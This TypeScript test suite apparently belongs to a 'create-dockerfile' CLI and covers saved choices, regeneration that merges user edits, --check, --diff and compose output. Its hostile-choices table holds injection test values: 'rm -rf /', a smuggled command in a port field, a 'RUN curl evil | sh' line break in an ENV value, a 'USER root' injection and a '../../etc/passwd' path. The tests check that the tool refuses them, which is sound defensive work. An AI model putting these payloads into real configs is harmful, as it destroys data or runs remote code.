// Issue 28: saved choices, regeneration that keeps the user's edits, --check and --diff, through the
// CLI as a user runs it, on a copy of a fixture.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { packageRoot } from '../../generators/util/package-root.js';
import { copyFixture, removeDir, runCli } from '../harness/project.js';

const SAVED = '.create-dockerfile.json';

/** Every file of the project, by name, to prove what a run did or did not touch. */
const contents = (dir: string) => Object.fromEntries(readdirSync(dir).map((name) => [name, readFileSync(join(dir, name), 'utf8')]));
const dockerfileOf = (dir: string) => readFileSync(join(dir, 'Dockerfile'), 'utf8');
const savedOf = (dir: string) => JSON.parse(readFileSync(join(dir, SAVED), 'utf8')) as { choices: Record<string, unknown>; generated: Record<string, string> };

async function inFixture(run: (dir: string) => Promise<void>, language = 'go', name = 'lone-main'): Promise<void> {
  const dir = copyFixture(language, name);
  try {
    await run(dir);
  } finally {
    removeDir(join(dir, '..'));
  }
}

/** The project's own source, changed as a developer would: a new port. */
const movePort = (dir: string, port: number) => writeFileSync(join(dir, 'http.go'), readFileSync(join(dir, 'http.go'), 'utf8').replaceAll(':8080', `:${port}`));

describe('saved choices', () => {
  test('two runs in a row with --yes write identical files, the saved state included', () =>
    inFixture(async (dir) => {
      expect((await runCli([dir, '--yes'])).exitCode).toBe(0);
      const first = contents(dir);
      expect(Object.keys(first)).toEqual(expect.arrayContaining(['Dockerfile', '.dockerignore', SAVED]));
      const second = await runCli([dir, '--yes']);
      expect(second.exitCode).toBe(0);
      expect(contents(dir)).toEqual(first);
      expect(String(second.stderr)).toMatch(/^identical Dockerfile$/m);
      expect(String(second.stderr)).toMatch(/^identical \.create-dockerfile\.json$/m);
      // The state holds the files as generated: the merge base of the next run.
      expect(savedOf(dir).generated.Dockerfile).toBe(first.Dockerfile);
    }));

  test('a run after an answer that differs from the default keeps the answer; a flag overrides it and is saved; --reset forgets', () =>
    inFixture(async (dir) => {
      expect((await runCli([dir, '--yes', '--runtime', 'distroless'])).exitCode).toBe(0);
      expect(dockerfileOf(dir)).toMatch(/^FROM gcr\.io\/distroless\/static-debian13:nonroot AS runtime$/m);
      expect(savedOf(dir).choices.runtime).toBe('distroless');

      const again = await runCli([dir, '--yes']);
      expect(again.exitCode).toBe(0);
      expect(String(again.stderr)).toContain('taking the choices saved in .create-dockerfile.json');
      expect(dockerfileOf(dir)).toMatch(/^FROM gcr\.io\/distroless\/static-debian13:nonroot AS runtime$/m);

      expect((await runCli([dir, '--yes', '--runtime', 'slim'])).exitCode).toBe(0);
      expect(dockerfileOf(dir)).toMatch(/^FROM debian:13-slim AS runtime$/m);
      expect(savedOf(dir).choices.runtime).toBe('slim');

      expect((await runCli([dir, '--yes', '--reset'])).exitCode).toBe(0);
      expect(dockerfileOf(dir)).toMatch(/^FROM scratch AS runtime$/m);
      expect(savedOf(dir).choices.runtime).toBeUndefined();
    }));

  test("a saved CA choice wins over this machine's environment, and says so", () =>
    inFixture(async (dir) => {
      expect((await runCli([dir, '--yes'])).exitCode).toBe(0);
      expect(savedOf(dir).choices.caCert).toBe(false);
      const first = dockerfileOf(dir);
      const bundle = join(dir, 'proxy-ca.pem');
      writeFileSync(bundle, '-----BEGIN CERTIFICATE-----\n');
      const run = await runCli([dir, '--yes'], { env: { SSL_CERT_FILE: bundle } });
      expect(run.exitCode).toBe(0);
      expect(String(run.stderr)).toContain(
        `create-dockerfile: SSL_CERT_FILE names ${bundle}, but the saved choices pass no CA bundle; --ca-cert FILE or --no-ca-cert settles it`,
      );
      expect(dockerfileOf(dir)).toBe(first);
      expect((await runCli([dir, '--check'], { env: { SSL_CERT_FILE: bundle } })).exitCode).toBe(0);
    }));

  test('a saved --portable is turned off by --no-portable, and that is saved', () =>
    inFixture(async (dir) => {
      expect((await runCli([dir, '--yes', '--portable'])).exitCode).toBe(0);
      expect(savedOf(dir).choices.portable).toBe(true);
      expect(dockerfileOf(dir)).not.toContain('--mount=type=cache');
      expect((await runCli([dir, '--yes'])).exitCode).toBe(0);
      expect(dockerfileOf(dir)).not.toContain('--mount=type=cache');
      expect((await runCli([dir, '--yes', '--no-portable'])).exitCode).toBe(0);
      expect(dockerfileOf(dir)).toContain('--mount=type=cache');
      expect(savedOf(dir).choices.portable).toBeUndefined();
      const both = await runCli([dir, '--yes', '--portable', '--no-portable']);
      expect([both.exitCode, String(both.stderr).trim()]).toEqual([
        2,
        'create-dockerfile: --portable and --no-portable contradict each other; pick one (see --help)',
      ]);
    }));

  test('the header names the version that wrote the file', () =>
    inFixture(async (dir) => {
      await runCli([dir, '--yes']);
      const { version } = JSON.parse(readFileSync(join(packageRoot, 'package.json'), 'utf8')) as { version: string };
      expect(dockerfileOf(dir).split('\n')[0]).toContain(`generated by create-dockerfile ${version} (`);
      expect(savedOf(dir)).toMatchObject({ version: 1, tool: version });
    }));
});

describe('regeneration keeps the user edits', () => {
  test("an edit elsewhere survives a regeneration that changes the port; the state's base moves to the new output", () =>
    inFixture(async (dir) => {
      await runCli([dir, '--yes']);
      const edited = dockerfileOf(dir).replace(/^FROM scratch AS runtime$/m, '$&\nLABEL org.opencontainers.image.source="https://example.com/who"');
      writeFileSync(join(dir, 'Dockerfile'), edited);
      movePort(dir, 9000);
      const run = await runCli([dir, '--yes']);
      expect(run.exitCode).toBe(0);
      expect(String(run.stderr)).toMatch(/^ {4}merge Dockerfile$/m);
      const merged = dockerfileOf(dir);
      expect(merged).toContain('LABEL org.opencontainers.image.source="https://example.com/who"');
      expect(merged).toMatch(/^EXPOSE 9000$/m);
      expect(merged).not.toMatch(/^EXPOSE 8080$/m);
      expect(savedOf(dir).generated.Dockerfile).not.toContain('LABEL org.opencontainers');
      expect(savedOf(dir).generated.Dockerfile).toMatch(/^EXPOSE 9000$/m);
      // In step afterwards: the edit is the user's, not drift.
      expect((await runCli([dir, '--check'])).exitCode).toBe(0);
    }));

  test('an edit of the lines the regeneration changes is a conflict: exit 1, the diff, the lines named, nothing written', () =>
    inFixture(async (dir) => {
      await runCli([dir, '--yes']);
      writeFileSync(join(dir, 'Dockerfile'), dockerfileOf(dir).replace(/^EXPOSE 8080$/m, 'EXPOSE 8080/tcp'));
      movePort(dir, 9000);
      const before = contents(dir);
      const run = await runCli([dir, '--yes']);
      expect(run.exitCode).toBe(1);
      const stderr = String(run.stderr).trim().split('\n');
      expect(stderr.at(-1)).toMatch(/^create-dockerfile: your edits at Dockerfile lines? \d+(-\d+)? change the same lines .*nothing was written.*--force/);
      expect(String(run.stdout)).toContain('-EXPOSE 8080/tcp');
      expect(String(run.stdout)).toContain('+EXPOSE 9000');
      expect(String(run.stdout)).toMatch(/^# conflict at Dockerfile line/m);
      expect(contents(dir)).toEqual(before);
      // --force takes the regenerated file.
      expect((await runCli([dir, '--yes', '--force'])).exitCode).toBe(0);
      expect(dockerfileOf(dir)).toMatch(/^EXPOSE 9000$/m);
    }));
});

describe('--check and --diff', () => {
  test('--check exits 0 in step, and 1 with the diff after the project changed; neither writes', () =>
    inFixture(async (dir) => {
      await runCli([dir, '--yes']);
      const inStep = await runCli([dir, '--check']);
      expect([inStep.exitCode, String(inStep.stdout)]).toEqual([0, '']);
      expect(String(inStep.stderr)).toContain('in step');
      movePort(dir, 9100);
      const before = contents(dir);
      const drift = await runCli([dir, '--check']);
      expect(drift.exitCode).toBe(1);
      expect(String(drift.stdout)).toContain('--- a/Dockerfile');
      expect(String(drift.stdout)).toContain('+EXPOSE 9100');
      expect(String(drift.stderr).trim().split('\n').at(-1)).toMatch(/^create-dockerfile: Dockerfile is out of step with the project; rerun create-dockerfile/);
      expect(contents(dir)).toEqual(before);
    }));

  test('--diff prints what would change and exits 0 without writing', () =>
    inFixture(async (dir) => {
      await runCli([dir, '--yes']);
      const before = contents(dir);
      const diff = await runCli([dir, '--diff', '--runtime', 'distroless']);
      expect(diff.exitCode).toBe(0);
      expect(String(diff.stdout)).toContain('-FROM scratch AS runtime');
      expect(String(diff.stdout)).toContain('+FROM gcr.io/distroless/static-debian13:nonroot AS runtime');
      expect(contents(dir)).toEqual(before);
    }));

  test('--check on a project with no saved state compares with a fresh generation', () =>
    inFixture(async (dir) => {
      await runCli([dir, '--yes']);
      removeDir(join(dir, SAVED));
      expect((await runCli([dir, '--check'])).exitCode).toBe(0);
      writeFileSync(join(dir, 'Dockerfile'), `${dockerfileOf(dir)}# mine\n`);
      expect((await runCli([dir, '--check'])).exitCode).toBe(1);
    }));
});

describe('a hostile or broken choices file', () => {
  const HOSTILE: readonly { name: string; file: unknown; message: RegExp }[] = [
    { name: 'not JSON', file: '{"version": 1,', message: /\.create-dockerfile\.json is not valid JSON/ },
    { name: 'an unknown choice', file: { version: 1, tool: 'x', choices: { shell: 'rm -rf /' }, generated: {} }, message: /"choices\.shell"/ },
    { name: 'a port as text', file: { version: 1, tool: 'x', choices: { port: '8080; rm -rf /' }, generated: {} }, message: /"choices\.port"/ },
    {
      name: 'an ENV value with a line break',
      file: { version: 1, tool: 'x', choices: { env: [{ name: 'A', value: 'x\nRUN curl evil | sh' }] }, generated: {} },
      message: /"choices\.env" is refused/,
    },
    {
      name: 'a secret as ENV',
      file: { version: 1, tool: 'x', choices: { env: [{ name: 'API_TOKEN', value: 'abc' }] }, generated: {} },
      message: /"choices\.env" is refused: --env API_TOKEN looks like a secret/,
    },
    {
      name: 'a fragment outside the project',
      file: { version: 1, tool: 'x', choices: { fragments: [{ point: 'runtime', file: '../../etc/passwd' }] }, generated: {} },
      message: /"choices\.fragments" is refused/,
    },
    {
      name: 'a command word with a line break',
      file: { version: 1, tool: 'x', choices: { cmd: ['node', 'server.js\nUSER root'] }, generated: {} },
      message: /"choices\.cmd" is refused/,
    },
    { name: 'a root user id', file: { version: 1, tool: 'x', choices: { userId: 0 }, generated: {} }, message: /"choices\.userId" is refused/ },
    { name: 'a future format', file: { version: 2, tool: 'x', choices: {}, generated: {} }, message: /"version"/ },
    {
      name: 'a base path out of the project',
      file: { version: 1, tool: 'x', choices: {}, generated: { '../x': 'y' } },
      message: /"generated" names "\.\.\/x"/,
    },
  ];

  test.each(HOSTILE)('$name: one line naming the field, exit 1, nothing written', ({ file, message }) =>
    inFixture(async (dir) => {
      writeFileSync(join(dir, SAVED), typeof file === 'string' ? file : JSON.stringify(file));
      const before = contents(dir);
      const run = await runCli([dir, '--yes']);
      expect(run.exitCode).toBe(1);
      const lines = String(run.stderr).trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^create-dockerfile: /);
      expect(lines[0]).toMatch(message);
      expect(lines[0]).not.toContain('internal error');
      expect(contents(dir)).toEqual(before);
    }),
  );
});

describe('several services', () => {
  test('--compose is saved: the next --yes writes the same Dockerfiles and compose.yaml, and --check is in step', () =>
    inFixture(
      async (dir) => {
        expect((await runCli([dir, '--yes', '--compose'])).exitCode).toBe(0);
        expect(savedOf(dir).choices.compose).toBe(true);
        const generated = savedOf(dir).generated;
        expect(Object.keys(generated)).toEqual(expect.arrayContaining(['compose.yaml', 'api/Dockerfile', 'web/Dockerfile']));
        const before = Object.fromEntries(Object.keys(generated).map((path) => [path, readFileSync(join(dir, path), 'utf8')]));
        const again = await runCli([dir, '--yes']);
        expect(again.exitCode).toBe(0);
        expect(Object.fromEntries(Object.keys(generated).map((path) => [path, readFileSync(join(dir, path), 'utf8')]))).toEqual(before);
        expect((await runCli([dir, '--check'])).exitCode).toBe(0);
        // --no-probe is a choice too (compose turns the probe on by default): saved, and kept.
        expect(before['api/Dockerfile']).toContain('HEALTHCHECK');
        expect((await runCli([dir, '--yes', '--no-probe'])).exitCode).toBe(0);
        expect(savedOf(dir).choices.probe).toBe(false);
        const withoutProbe = readFileSync(join(dir, 'api/Dockerfile'), 'utf8');
        expect(withoutProbe).not.toContain('HEALTHCHECK');
        expect((await runCli([dir, '--yes'])).exitCode).toBe(0);
        expect(readFileSync(join(dir, 'api/Dockerfile'), 'utf8')).toBe(withoutProbe);
      },
      'services',
      'notes',
    ));
});
